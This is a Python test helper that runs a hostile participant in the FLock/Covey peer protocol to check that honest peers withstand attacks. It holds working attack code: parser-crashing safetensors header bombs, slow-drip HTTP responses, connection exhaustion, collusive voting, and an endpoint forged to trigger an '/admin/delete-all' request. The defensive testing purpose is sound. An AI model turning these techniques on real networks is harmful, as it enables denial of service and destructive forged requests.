"""A hostile FLock participant, as its own process, for tests/flock/test_hostile_network.py.

It plays just enough of the protocol to be drawn (it joins, commits and reveals its seeds), and
does everything issue 26 found an attacker could do to honest peers:

- **header bombs**: as a proposer it publishes, by CID, a blob whose safetensors header is 100,000
  nested `[` (then `{"a":` nesting, then a header length of 2**63): fetched and checked against
  its CID, then parsed by every voter of the round and, if accepted, by everyone;
- **drips**: its gateway answers every other request with a huge Content-Length and one byte
  every half second, for as long as the fetcher waits;
- **idle connections**: it holds up to `--idle` silent connections open to every other member's
  gateway, reopening those the gateway closes;
- **a forging endpoint**: from round `--forge-from` on, it re-registers its endpoint (bypassing
  Covey's client-side check, as any raw transaction can) as a URL whose path and query would
  make a naive fetcher call `/admin/delete-all?confirm=yes` on the canary server;
- as a voter it accepts everything (colludes with itself).

Run: python tests/flock/hostile_peer.py --chain-url URL --task ADDRESS --key-file KEY
         --canary-url http://127.0.0.1:PORT [--idle 100] [--forge-from 1]
It prints one line per action and exits when the task is over.
"""

from __future__ import annotations

import argparse
import contextlib
import secrets
import socket
import struct
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from covey.flock.chain import Chain, ChainError
from covey.flock.commitments import proposal_commitment, seed_commitment, vote_commitment
from covey.flock.keys import load_private_key
from covey.flock.task import FlockTask, Phase, Role
from covey.store.cid import cid_for, digest_of

FINISHED = (Phase.ENDED, Phase.CANCELLED, Phase.STALLED)


def bomb(round_: int) -> bytes:
    """A different hostile safetensors blob per round (so each has its own digest)."""
    tag = f"hostile round {round_} {secrets.token_hex(4)}".encode()
    kind = round_ % 3
    if kind == 0:  # deep list nesting: json.loads overflows the C stack at a high recursion limit
        header = b"[" * 100_000
    elif kind == 1:  # deep object nesting
        header = b'{"a":' * 50_000
    else:  # a header length no file has
        return struct.pack("<Q", 2**63) + tag
    return struct.pack("<Q", len(header)) + header + tag


class Hostile:
    def __init__(self, args: argparse.Namespace) -> None:
        self.chain = Chain.connect(args.chain_url, key=load_private_key(args.key_file))
        self.me = self.chain.default_account
        self.task = FlockTask.attach(self.chain, args.task)
        self.blobs: dict[str, bytes] = {}
        self.secrets: dict[tuple[int, str], bytes] = {}
        self.forge_from = args.forge_from
        self.forging = f"{args.canary_url.rstrip('/')}/admin/delete-all?confirm=yes#"
        self.forged = False
        self.idle = args.idle
        self.stop = threading.Event()
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), self.handler())
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"

    def say(self, text: str) -> None:
        print(f"hostile {self.me[:10]}: {text}", flush=True)

    def secret(self, round_: int, purpose: str) -> bytes:
        return self.secrets.setdefault((round_, purpose), secrets.token_bytes(32))

    # ------------------------------------------------------------ its gateway

    def handler(self) -> type[BaseHTTPRequestHandler]:
        hostile = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                cid = self.path.split("?", 1)[0].removeprefix("/ipfs/").strip("/")
                data = hostile.blobs.get(cid)
                if data is not None:  # its bombs, intact: they must pass the CID check
                    self.send_response(200)
                    self.send_header("Content-Length", str(len(data)))
                    self.end_headers()
                    self.wfile.write(data)
                    return
                self.send_response(200)  # anything else: a drip that never ends
                self.send_header("Content-Length", str(10**9))
                self.end_headers()
                try:
                    while not hostile.stop.is_set():
                        self.wfile.write(b"\0")
                        self.wfile.flush()
                        time.sleep(0.5)
                except OSError:
                    pass

            def log_message(self, format: str, *args: Any) -> None:
                pass

        return Handler

    # ------------------------------------------------------------ idle connections

    def hold_idle_connections(self) -> None:
        held: dict[str, list[socket.socket]] = {}
        while not self.stop.is_set():
            try:
                members = [m for m in self.task.participants() if m != self.me]
                endpoints = {self.task.endpoint_of(m) for m in members}
            except Exception:  # the node is busy: try again
                endpoints = set()
            for endpoint in endpoints:
                if not endpoint.startswith("http://"):
                    continue
                host, _, port = endpoint.removeprefix("http://").partition(":")
                sockets = [s for s in held.get(endpoint, []) if _open(s)]
                while len(sockets) < self.idle:
                    try:
                        s = socket.create_connection((host, int(port or 80)), timeout=2)
                    except OSError:
                        break
                    s.sendall(b"GET /ipfs/")  # a request that never ends
                    sockets.append(s)
                held[endpoint] = sockets
            self.stop.wait(3)
        for sockets in held.values():
            for s in sockets:
                s.close()

    # ------------------------------------------------------------ the protocol, barely

    def step(self) -> None:
        task, me = self.task, self.me
        phase, r = task.phase(), task.current_round()
        if phase == Phase.REGISTRATION and not task.joined(me):
            task.join(self.url, sender=me)
            self.say(f"joined, serving at {self.url}")
        elif phase == Phase.SEED_COMMIT and me in task.participants():
            if not any(task.seed_status(r, me)[0]):
                task.commit_seed(seed_commitment(self.secret(r, "seed"), me), sender=me)
                if r >= self.forge_from and not self.forged:
                    # raw: Covey's own client refuses this endpoint before sending it
                    task.transact("set_endpoint", self.forging, sender=me)
                    self.forged = True
                    self.say(f"round {r}: registered the forging endpoint {self.forging}")
        elif phase == Phase.SEED_REVEAL:
            commitment, revealed = task.seed_status(r, me)
            if any(commitment) and not revealed:
                task.reveal_seed(self.secret(r, "seed"), sender=me)
        elif phase == Phase.PROPOSE_COMMIT and task.role_of(r, me) == Role.PROPOSER:
            if not any(task.proposal_of(r, me).commitment):
                data = bomb(r)
                cid = cid_for(data)
                self.blobs[cid] = data
                self.secrets[(r, "cid")] = cid.encode()
                salt = self.secret(r, "salt")
                task.commit_proposal(proposal_commitment(digest_of(cid), salt, me), sender=me)
                self.say(f"round {r}: committed header bomb {cid} ({len(data)} bytes)")
        elif phase == Phase.PROPOSE_REVEAL and (r, "cid") in self.secrets:
            if not any(task.proposal_of(r, me).digest):
                cid = self.secrets[(r, "cid")].decode()
                task.reveal_proposal(digest_of(cid), self.secret(r, "salt"), sender=me)
                self.say(f"round {r}: revealed header bomb {cid}")
        elif phase == Phase.VOTE_COMMIT and task.role_of(r, me) == Role.VOTER:
            if task.proposal_count(r) and not any(task.vote_of(r, me).commitment):
                every = (1 << len(task.proposers_of(r))) - 1
                salt = self.secret(r, "ballot")
                task.commit_vote(vote_commitment(every, salt, me), sender=me)
        elif phase == Phase.VOTE_REVEAL and task.role_of(r, me) == Role.VOTER:
            vote = task.vote_of(r, me)
            if any(vote.commitment) and not vote.revealed:
                every = (1 << len(task.proposers_of(r))) - 1
                task.reveal_vote(every, self.secret(r, "ballot"), sender=me)

    def run(self) -> None:
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        idle = threading.Thread(target=self.hold_idle_connections, daemon=True)
        idle.start()
        try:
            while self.task.phase() not in FINISHED:
                try:
                    self.step()
                except ChainError as e:  # a window closed under it, a revert: carry on
                    self.say(f"({type(e).__name__}: {e})")
                time.sleep(0.5)
            for call in (self.task.claim, self.task.withdraw):
                with contextlib.suppress(ChainError):
                    call(sender=self.me)
            self.say("task over")
        finally:
            self.stop.set()
            self.server.shutdown()
            idle.join(timeout=10)


def _open(s: socket.socket) -> bool:
    """Still open: the peer has not closed it (a read would not return b'')."""
    try:
        s.setblocking(False)
        try:
            return s.recv(1, socket.MSG_PEEK) != b""
        except BlockingIOError:
            return True
        finally:
            s.setblocking(True)
    except OSError:
        return False


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--chain-url", required=True)
    parser.add_argument("--task", required=True)
    parser.add_argument("--key-file", type=Path, required=True)
    parser.add_argument("--canary-url", required=True)
    parser.add_argument("--idle", type=int, default=100)
    parser.add_argument("--forge-from", type=int, default=1)
    args = parser.parse_args()
    Hostile(args).run()


if __name__ == "__main__":
    sys.exit(main())
